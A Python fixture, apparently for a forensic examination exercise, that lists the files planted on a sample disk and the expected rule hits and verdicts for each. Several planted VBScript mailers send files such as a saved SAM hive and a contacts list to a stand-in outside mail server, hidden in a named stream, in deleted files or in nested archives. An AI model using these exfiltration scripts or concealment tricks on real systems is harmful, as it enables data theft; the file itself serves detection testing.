# SPDX-License-Identifier: Apache-2.0
"""What the sample disk holds: one Plant for each file, with what an examination must say of it. The
site is corp.example, its relay mail.corp.example; all names are of the domains kept for documents."""
from dataclasses import dataclass

# Volumes of the disk, in order.
NTFS, EXT4, FAT = 1, 2, 3


@dataclass
class Plant:
    volume: int
    path: str
    data: object           # bytes; a str is stored as UTF-8 with CRLF on NTFS and FAT; None: made of `archive`
    why: str
    strings: str = ''      # identifiers of the rule that match, joined by ';'; empty: no hit
    verdict: str = ''      # of a hit: benign, suspicious, or open (anything but benign)
    scenario: str = ''
    stream: str = ''       # named stream of path that holds data
    state: str = 'allocated'
    view: str = 'raw'
    archive: tuple = ()    # steps from the outermost archive inwards; the last one is the member's name
    locked: bool = False   # the archive is encrypted: must stand in coverage.csv


def mailer(title, server, to, subject, attach='', body='', sender='', before='', literal=False):
    """A VBScript that sends one mail through CDO. literal: by the constants' names, not their URLs."""
    field = {'using': 'cdoSendUsingMethod', 'server': 'cdoSMTPServer', 'port': 'cdoSMTPServerPort'}
    if not literal:
        base = '"http://schemas.microsoft.com/cdo/configuration/'
        field = {'using': base + 'sendusing"', 'server': base + 'smtpserver"', 'port': base + 'smtpserverport"'}
    lines = [f"' {title}", 'Option Explicit', 'Dim mail, conf, field', *before.splitlines(),
             'Set mail = CreateObject("CDO.Message")', 'Set conf = CreateObject("CDO.Configuration")',
             'Set field = conf.Fields', f'field.Item({field["using"]}) = 2',
             f'field.Item({field["server"]}) = "{server}"', f'field.Item({field["port"]}) = 25',
             'field.Update', 'Set mail.Configuration = conf',
             f'mail.From = "{sender or "noreply@corp.example"}"', f'mail.To = "{to}"',
             f'mail.Subject = "{subject}"', f'mail.TextBody = "{body or subject}"']
    if attach:
        lines.append(f'mail.AddAttachment "{attach}"')
    return '\n'.join([*lines, 'mail.Send', ''])


def outside(title, attach, subject='week 10', literal=False):
    return mailer(title, 'smtp.example.net', 'inbox7731@example.org', subject, attach=attach,
                  sender='update@example.org', literal=literal)


def task(command, arguments, when):
    """A Task Scheduler file as Windows stores it: UTF-16 with a byte order mark."""
    text = f'''<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Author>CORP\\Administrator</Author></RegistrationInfo>
  <Triggers><CalendarTrigger><StartBoundary>2023-09-04T{when}</StartBoundary><Enabled>true</Enabled>\
<ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>
  <Principals><Principal id="Author"><UserId>CORP\\svc_report</UserId></Principal></Principals>
  <Actions Context="Author"><Exec><Command>{command}</Command><Arguments>{arguments}</Arguments></Exec></Actions>
</Task>
'''
    return text.replace('\n', '\r\n').encode('utf-16')


CSCRIPT = r'C:\Windows\System32\cscript.exe'
RELAY = 'mail.corp.example'

PLANTS = [
    # ---- what the site's own jobs send
    Plant(NTFS, '/Scripts/Reports/nightly_report.vbs',
          mailer('Nightly report', RELAY, 'finance@corp.example', 'Nightly report', literal=True,
                 attach=r'D:\Reports\out\nightly.csv'),
          'a report by the internal relay to an internal mailbox, run by the task "Nightly Report"',
          'c1;c2;c3', 'benign', 'scheduled-report'),
    Plant(NTFS, '/Windows/System32/Tasks/Corp/Nightly Report',
          task(CSCRIPT, r'//B //Nologo "C:\Scripts\Reports\nightly_report.vbs"', '02:10:00'),
          'the task that runs nightly_report.vbs; holds none of the rule\'s strings'),
    Plant(NTFS, '/Scripts/Backup/backup_mail.vbs',
          mailer('Backup job notification', RELAY, 'it-ops@corp.example', 'Backup job finished: success',
                 body='robocopy log: see attachment', attach=r'C:\Scripts\Backup\robocopy.log'),
          'a backup job mails its log inside the house, run by the task "Robocopy Log"',
          'c1;c5', 'benign', 'backup-notification'),
    Plant(NTFS, '/Windows/System32/Tasks/Corp/Robocopy Log',
          task(CSCRIPT, r'//B "C:\Scripts\Backup\backup_mail.vbs"', '04:30:00'),
          'the task that runs backup_mail.vbs'),
    Plant(EXT4, '/srv/share/scripts/weekly_stock.vbs',
          mailer('Weekly stock list', RELAY, 'warehouse@corp.example', 'Weekly stock list'),
          'a report run by /etc/cron.d/weekly-stock', 'c1;c5', 'benign', 'scheduled-report'),
    Plant(EXT4, '/etc/cron.d/weekly-stock',
          'MAILTO=ops@corp.example\n15 5 * * 1 svc_report /usr/local/bin/run-vbs /srv/share/scripts/weekly_stock.vbs\n',
          'the cron entry that runs weekly_stock.vbs'),
    Plant(EXT4, '/usr/local/nagios/libexec/notify_by_mail.vbs',
          mailer('Nagios: $NOTIFICATIONTYPE$ $HOSTALIAS$', RELAY, 'oncall@corp.example',
                 'Nagios $NOTIFICATIONTYPE$: $HOSTALIAS$ is $HOSTSTATE$'),
          'a notification of the monitoring installed beside it', 'c1;c5', 'benign', 'health-check'),
    Plant(EXT4, '/usr/local/nagios/etc/objects/commands.cfg',
          'define command {\n    command_name  notify-host-by-mail\n'
          '    command_line  /usr/local/bin/run-vbs /usr/local/nagios/libexec/notify_by_mail.vbs\n}\n',
          'the Nagios command that runs notify_by_mail.vbs'),

    # ---- what nobody at the site sends
    Plant(NTFS, '/Users/Public/Scripts/Reports/nightly_report.vbs',
          outside('Nightly report', r'C:\Users\mmueller\Documents\contacts.csv', 'Nightly report'),
          'named like the report, but sends a file to a server outside', 'c1;c5', 'suspicious'),
    Plant(NTFS, '/Users/mmueller/AppData/Local/Temp/update.vbs',
          outside('update', r'C:\Windows\Temp\sam.save') + "' " + 'padding ' * 100 + '\n',
          'a script in Temp that sends a registry hive outside', 'c1;c5', 'suspicious'),
    Plant(NTFS, '/Users/mmueller/Documents/minutes.txt', 'Minutes of the meeting of 5 March.\n' * 40,
          'plain text; its named stream is another row'),
    Plant(NTFS, '/Users/mmueller/Documents/minutes.txt',
          outside('sync', r'C:\Users\mmueller\Documents\prices.xlsx') + "' " + 'padding ' * 100 + '\n',
          'a script in a named stream of minutes.txt', 'c1;c5', 'suspicious', stream='sync.vbs'),
    Plant(NTFS, '/Users/mmueller/Desktop/sync.vbs',
          outside('sync', r'C:\Users\mmueller\Documents\prices.xlsx').replace('\n', '\r\n').encode('utf-16'),
          'UTF-16 with a byte order mark: the rule matches the converted text only', 'c1;c5', 'suspicious',
          view='utf-16le'),
    Plant(NTFS, '/Users/mmueller/Documents/old_mail.vbs',
          outside('old', r'C:\Users\mmueller\Documents\contacts.csv') + "' " + 'padding ' * 100 + '\n',
          'deleted, content still there', 'c1;c5', 'suspicious', state='deleted'),
    Plant(EXT4, '/home/jdoe/outbox/pack.zip', None,
          'a script in a zip in a tgz in a zip', 'c1;c5', 'suspicious',
          archive=('week10/inner.tgz', 'data/deep.zip', 'send.vbs')),
    Plant(EXT4, '/home/jdoe/cleanup.vbs', outside('cleanup', '/srv/share/stock.csv', literal=True),
          'deleted (the inode keeps its blocks)', 'c1;c2;c3', 'suspicious', state='deleted'),
    Plant(FAT, '/TOOLS/collect.vbs', outside('collect', r'E:\collect.zip'),
          'a mailer on the exchange partition', 'c1;c5', 'suspicious'),
    Plant(FAT, '/TOOLS/lost mail.vbs', outside('lost', r'E:\lost.zip', literal=True),
          'deleted on FAT, its long name still there', 'c1;c2;c3', 'suspicious', state='deleted'),
    Plant(FAT, '/locked.zip', None, 'an encrypted archive: cannot be examined, must be listed', locked=True,
          archive=('inside.vbs',)),

    # ---- near misses
    Plant(NTFS, '/Users/mmueller/Documents/dev/notes.txt',
          'CDO Message: set smtpserver and sendusing, then Send. See also cdo/configuration/smtpserver.\n'
          'cdoSMTP Server, cdo.messag, cdoSendUsing, cdoex .dll\n' * 12,
          'words that resemble the rule\'s strings: none matches'),
    Plant(EXT4, '/usr/share/doc/cdosys.txt',
          'CDOSYS is the mail component of Windows 2000. It replaced CDONTS (CDONTS.NewMail).\n',
          'documentation of CDOSYS without any of the strings'),
    Plant(EXT4, '/home/jdoe/send.ps1',
          'Send-MailMessage -SmtpServer mail.corp.example -To jdoe@corp.example -Subject hello\n',
          'a mail script that does not use CDO'),
    Plant(FAT, '/README.TXT', 'Exchange partition. Empty TOOLS before use.\n', 'plain text'),
]

# Hits that come of how a file system stores its data.
ASIDE = [
    Plant(NTFS, '/$MFT', None, 'small files lie inside the master file table, so it holds their text too',
          'c1;c2;c3', 'open'),
]
